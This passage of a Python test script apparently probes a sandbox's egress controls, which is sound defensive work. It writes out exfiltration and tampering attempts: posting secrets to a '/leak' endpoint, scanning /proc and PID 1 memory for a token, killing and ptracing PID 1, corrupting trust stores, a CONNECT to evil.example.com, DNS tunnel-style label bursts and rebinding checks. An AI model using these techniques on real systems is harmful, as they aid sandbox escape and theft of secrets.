        probe(f"secrets_builtin_{kind}")(
            lambda value=value: must_403("POST", "/leak", {"Content-Type": "application/json"},
                                         json.dumps({"k": value}).encode()))

    @probe("secrets_builtin_github_header")
    def _():
        return must_403("GET", "/leak", {"X-Token": COMMON["github"]})


def token_in(data):
    """True if the injected token (known only by its hash) is in `data`."""
    if not TOKEN_SHA or not TOKEN_LEN:
        raise Refused("no token hash given")
    i = data.find(TOKEN_FIRST)
    while i != -1:
        if hashlib.sha256(data[i:i + TOKEN_LEN]).hexdigest() == TOKEN_SHA:
            return True
        i = data.find(TOKEN_FIRST, i + 1)
    return False


def readable_files(roots, max_size=1 << 20):
    for root in roots:
        for dirpath, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if not os.path.islink(os.path.join(dirpath, d))]
            for f in files:
                p = os.path.join(dirpath, f)
                try:
                    if os.path.islink(p) or os.path.getsize(p) > max_size:
                        continue
                    with open(p, "rb") as fh:
                        yield p, fh.read()
                except OSError:
                    continue


if MODE == "main":
    @probe("secrets_token_not_in_guest_env", limit_ms=20000)
    def _():
        n = 0
        for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
            for what in ("environ", "cmdline"):
                try:
                    data = open(f"/proc/{pid}/{what}", "rb").read()
                except OSError:
                    continue
                n += 1
                if token_in(data):
                    raise Refused(f"token in /proc/{pid}/{what}")
        if token_in(open("/proc/cmdline", "rb").read()):
            raise Refused("token on the kernel command line")
        return f"{n} environ/cmdline files clean"

    @probe("secrets_token_not_in_guest_files", limit_ms=60000)
    def _():
        n = 0
        for p, data in readable_files(["/etc", "/run", "/tmp", "/root", "/var", "/home"]):
            n += 1
            if token_in(data):
                raise Refused(f"token in {p}")
        return f"{n} files clean"

    @probe("tamper_pid1_memory_has_no_token", limit_ms=60000)
    def _():
        n = 0
        with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", 0) as mem:
            for line in maps:
                addr, perms = line.split()[:2]
                if "r" not in perms:
                    continue
                lo, hi = (int(x, 16) for x in addr.split("-"))
                if hi - lo > 64 << 20:
                    continue
                try:
                    mem.seek(lo)
                    data = mem.read(hi - lo)
                except (OSError, ValueError, OverflowError):
                    continue
                n += len(data)
                if token_in(data):
                    raise Refused(f"token in PID 1 memory at {lo:#x}")
        if n == 0:
            raise Refused("could not read PID 1 memory at all")
        return f"{n >> 10} KiB of PID 1 read, no token"


# ------------------------------------------------------------ tampering

if MODE == "main":
    @probe("tamper_bind_dns_port")
    def _():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            return expect_errno(lambda: s.bind(("127.0.0.1", 53)), (errno.EADDRINUSE,))
        finally:
            s.close()

    @probe("tamper_bind_proxy_port")
    def _():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            return expect_errno(lambda: s.bind(("127.0.0.1", 3128)), (errno.EADDRINUSE,))
        finally:
            s.close()

    @probe("tamper_kill_pid1")
    def _():
        # SIGKILL to PID 1 from inside its namespace is ignored by the
        # kernel; the stub and forwarder (tasks in PID 1) keep refusing.
        os.kill(1, 9)
        time.sleep(0.2)
        state = open("/proc/1/stat").read().rsplit(")", 1)[1].split()[0]
        if state == "Z":
            raise Refused("PID 1 died")
        return "alive; " + dns_blocked("after-kill.example.com", "A")

    @probe("tamper_ptrace_pid1")
    def _():
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
        r = libc.ptrace(PTRACE_SEIZE, 1, None, None)
        if r == 0:
            libc.ptrace(PTRACE_DETACH, 1, None, None)
            # Root may trace PID 1; what matters is that PID 1 holds
            # nothing worth reading (tamper_pid1_memory_has_no_token) and
            # the guards are on the host (the DNS answer below).
            return "seized (root may trace) and detached; " + dns_blocked("after-ptrace.example.com", "A")
        e = ctypes.get_errno()
        return f"refused {errno.errorcode.get(e, e)}"

    @probe("tamper_trust_store")
    def _():
        # Replace the trust stores with garbage: nothing host-side changes,
        # a denied host is still refused at CONNECT.
        paths = ["/etc/ssl/certs/ca-certificates.crt", os.environ.get("SSL_CERT_FILE", "")]
        saved = {}
        for p in filter(None, paths):
            try:
                saved[p] = open(p, "rb").read()
                with open(p, "ab") as f:
                    f.write(b"\n-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
            except OSError:
                pass
        try:
            if not saved:
                raise Refused("no trust store written")
            return f"wrote {len(saved)} stores; " + expect_403(
                proxy_raw(b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com\r\n\r\n"), "after")
        finally:
            for p, data in saved.items():
                with open(p, "wb") as f:
                    f.write(data)

    @probe("tamper_own_proxy_env")
    def _():
        # Point the proxy settings elsewhere (a direct connection): there is
        # no route, so curl fails at once.
        env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
        r = subprocess.run(["curl", "-sS", "--max-time", "1.5", "https://1.1.1.1/"],
                           capture_output=True, text=True, env=env, timeout=3)
        if r.returncode == 0:
            raise Refused("direct curl succeeded")
        if r.returncode == 28:
            raise Refused("direct curl timed out (no explicit refusal)")
        return f"curl exit {r.returncode}: {r.stderr.strip()[:80]}"

    @probe("dns_unique_label_budget", limit_ms=20000)
    def _():
        # Many short, unique, innocent-looking labels: after the per-domain
        # budget (30 in the probe manifest) the names are refused.
        answered = refused = 0
        for i in range(45):
            rcode, an, _ = dns_query(f"w{i}x{random.randrange(10**6)}.tunnel.bottle.test", "A")
            if rcode == "NOERROR" and an:
                answered += 1
            elif rcode in ("NXDOMAIN", "REFUSED"):
                refused += 1
        if answered > 30 or refused < 15:
            raise Refused(f"{answered} answered, {refused} refused")
        return f"{answered} answered, then {refused} refused"


# --------------------------------------------- rebinding (second launch)

REBIND = (("meta.rebind.test", "metadata"), ("lan.rebind.test", "private"),
          ("api.bottle.test", "loopback"))


def dns_no_address(name):
    rcode, an, _ = dns_query(name, "A")
    if an:
        raise Refused(f"{name}: {an} answers")
    return f"{rcode} 0 answers"


def proxy_get(name):
    """GET through a tunnel to `name`: (status, rule, body)."""
    reply = proxy_raw(f"CONNECT {name}:{PORT} HTTP/1.1\r\nHost: {name}:{PORT}\r\n\r\n".encode())
    if status_of(reply) != 200:
        return status_of(reply), "", reply
    conn = http.client.HTTPSConnection(PROXY[0], PROXY[1], timeout=1.8, context=tls_ctx())
    conn.set_tunnel(name, PORT)
    try:
        conn.request("GET", "/rebind")
        r = conn.getresponse()
        body = r.read()
        RECEIVED.append(body)
        return r.status, r.getheader("x-bottle-rule") or "", body
    finally:
        conn.close()


def refused_by_proxy(name, statuses, rule=None):
    st, got_rule, body = proxy_get(name)
    if st not in statuses or not got_rule or (rule and got_rule != rule):
        raise Refused(f"status {st} rule {got_rule!r} {body[:60]!r}")
    return f"{st} {got_rule}"


if MODE == "rebind":
    # The DNS filter drops private answers; the proxy then has no address
    # for the name (its lookups go through the same filter): a 502 from the
    # proxy itself (x-bottle-rule upstream-error), no connection made.
    for name, label in REBIND:
        probe(f"dns_rebind_{label}_dropped")(lambda name=name: dns_no_address(name))
        probe(f"proxy_allowed_name_{label}_refused")(
            lambda name=name: refused_by_proxy(name, (403, 502)))

if MODE == "connector":
    # Private answers kept by DNS, but egress.allow_private is off: the
    # proxy's connector refuses the address itself.
    for name, label in REBIND:
        probe(f"proxy_upstream_{label}_address_refused")(
            lambda name=name: refused_by_proxy(name, (403,), "upstream-address-refused"))


if __name__ == "__main__":
    print(f"PROBES start mode={MODE} count={len(PROBES)}", flush=True)
    run_all(set(sys.argv[1:]) or None)
    # Last: the token must not be in anything the guest received.
    t = time.monotonic()
    hit = any(token_in(d) for d in RECEIVED)
    ms = int((time.monotonic() - t) * 1000)
    if MODE == "main":
        print(f"PROBE secrets_token_not_in_replies {'FAIL' if hit else 'ok'} "
              f"{len(RECEIVED)} replies {ms}ms", flush=True)
